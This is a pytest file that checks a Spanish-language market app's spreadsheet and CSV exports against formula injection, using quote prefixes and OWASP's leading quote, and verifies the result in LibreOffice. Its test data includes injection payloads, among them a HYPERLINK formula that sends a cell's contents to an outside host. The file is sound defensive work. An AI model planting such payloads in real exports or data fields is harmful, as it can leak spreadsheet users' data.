"""No formula ever comes from data: text that a spreadsheet could read as a formula is
written as text (xlsx: a string cell with the quote prefix; CSV: OWASP's leading quote)."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from agroferia.core import cell_text
from agroferia.core.models import Category
from agroferia.core.templates import write_template
from tests.reports.workbooks import UTF8_CSV, needs_soffice, soffice

RISKY = [
    '=HYPERLINK("http://x/?d="&E9,"ver")',
    "=1+1",
    "+51 987 654 321",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",  # an error code, which openpyxl would write as an error cell
    "=",
]
PLAIN = ["Ana María", "12345678", "S/ 1,250.00", "a=b", "Lima-Cusco", "", "'ya citado"]


def as_read(value: str) -> str:
    """XML reads a carriage return back as a line feed."""
    return value.replace("\r", "\n")


def sheet_xml(path, name="xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(name).decode("utf-8")


def test_what_could_start_a_formula():
    assert all(cell_text.looks_like_formula(v) for v in RISKY if v != "#N/A")
    assert not any(cell_text.looks_like_formula(v) for v in PLAIN)
    assert frozenset("=+-@\t\r") == cell_text.FORMULA_LEADS


def test_write_only_cells_keep_the_text_as_text(tmp_path):
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Datos")
    values = [*RISKY, *PLAIN, 12, dt.date(2026, 3, 1), None, "a\x1bb\x00c"]
    ws.append([cell_text.text_cell(ws, v) for v in values])
    wb.save(tmp_path / "w.xlsx")
    assert "<f>" not in sheet_xml(tmp_path / "w.xlsx")
    row = openpyxl.load_workbook(tmp_path / "w.xlsx")["Datos"][1]
    for value, cell in zip(values, row, strict=False):
        if value in RISKY:
            assert (cell.value, cell.data_type, cell.quotePrefix) == (as_read(value), "s", True)
        elif isinstance(value, str) and value and "\x1b" not in value:
            assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", False)
    assert row[len(RISKY) + len(PLAIN)].value == 12
    assert row[-1].value == "abc"  # control characters XML cannot hold are dropped
    # safe values are given back as they are (no cell object: the listing stays fast)
    assert cell_text.text_cell(ws, "Ana") == "Ana"
    assert cell_text.text_cell(ws, 12) == 12


def test_a_style_and_the_protection_go_together(tmp_path):
    wb = openpyxl.Workbook(write_only=True)
    style = openpyxl.styles.NamedStyle(name="negrita")
    style.font = openpyxl.styles.Font(bold=True)
    wb.add_named_style(style)
    ws = wb.create_sheet("Datos")
    ws.append([cell_text.text_cell(ws, "=1+1", "negrita"), cell_text.text_cell(ws, "x", "negrita")])
    wb.save(tmp_path / "s.xlsx")
    first, second = openpyxl.load_workbook(tmp_path / "s.xlsx")["Datos"][1]
    assert (first.value, first.data_type, first.quotePrefix, first.font.bold) == (
        "=1+1", "s", True, True,
    )  # fmt: skip
    assert (second.quotePrefix, second.font.bold) == (False, True)


def test_ordinary_worksheets_too(tmp_path):
    wb = openpyxl.Workbook()
    for n, value in enumerate(RISKY, 1):
        cell_text.put(wb.active, n, 1, value)
    wb.save(tmp_path / "n.xlsx")
    assert "<f>" not in sheet_xml(tmp_path / "n.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "n.xlsx").active
    assert [(c.value, c.data_type, c.quotePrefix) for (c,) in ws.iter_rows()] == [
        (as_read(v), "s", True) for v in RISKY
    ]


def test_a_rubro_named_like_a_formula_is_a_name_in_the_template(session, tmp_path):
    """The import template lists the rubros of the database: «=1+1» stays a name."""
    category = session.scalar(select(Category).order_by(Category.id))
    category.name = "=1+1"  # as an older version could have stored it
    session.commit()
    path = write_template(session, "vendors", tmp_path / "plantilla.xlsx")
    wb = openpyxl.load_workbook(path)
    lists = wb.worksheets[-1]
    found = [c for row in lists.iter_rows() for c in row if c.value == "=1+1"]
    assert len(found) == 1
    assert (found[0].data_type, found[0].quotePrefix) == ("s", True)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in z.read(name).decode(), name


def test_csv_fields_get_owasps_leading_quote(tmp_path):
    path = tmp_path / "datos.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = cell_text.csv_writer(fh)
        writer.writerow(["Nombre", "Monto"])
        writer.writerows([[v, 12] for v in RISKY + PLAIN])
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[0] == '"Nombre","Monto"'  # every field quoted
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))[1:]
    for value, (written, amount) in zip(RISKY + PLAIN, rows, strict=True):
        assert written == ("'" + value if value in RISKY and value != "#N/A" else value)
        assert amount == "12"


@needs_soffice
@pytest.mark.parametrize("source", ["xlsx", "csv"])
def test_libreoffice_shows_the_text_and_computes_nothing(tmp_path, source):
    """Opened in LibreOffice (converted headless), the values are text; the same values
    written bare are computed, so the check can tell."""
    values = ["=1+1", '=HYPERLINK("http://x/","ver")', "@SUM(1)"]
    safe, bare = tmp_path / f"seguro.{source}", tmp_path / f"crudo.{source}"
    if source == "xlsx":
        wb = openpyxl.Workbook(write_only=True)
        ws = wb.create_sheet("Datos")
        for v in values:
            ws.append([cell_text.text_cell(ws, v)])
        wb.save(safe)
        raw = openpyxl.Workbook()
        for n, v in enumerate(values, 1):
            raw.active.cell(n, 1, v)
        raw.save(bare)
    else:
        with safe.open("w", newline="", encoding="utf-8") as fh:
            cell_text.csv_writer(fh).writerows([[v] for v in values])
        bare.write_text("\n".join(values) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    read = soffice(safe, "xlsx" if source == "csv" else UTF8_CSV, out)
    if source == "csv":
        cells = [c.value for (c,) in openpyxl.load_workbook(read).active.iter_rows()]
        assert cells == ["'" + v for v in values]  # the quote shows: nothing is evaluated
    else:
        assert read.read_text(encoding="utf-8").splitlines() == [
            '"=HYPERLINK(""http://x/"",""ver"")"' if "HYPERLINK" in v else v for v in values
        ]
    control = soffice(bare, "xlsx" if source == "csv" else UTF8_CSV, out)
    if source == "csv":
        first = openpyxl.load_workbook(control).active["A1"]
        assert first.data_type == "f" and first.value == "=1+1"  # LibreOffice made it a formula
    else:
        assert control.read_text(encoding="utf-8").splitlines()[0] == "2"
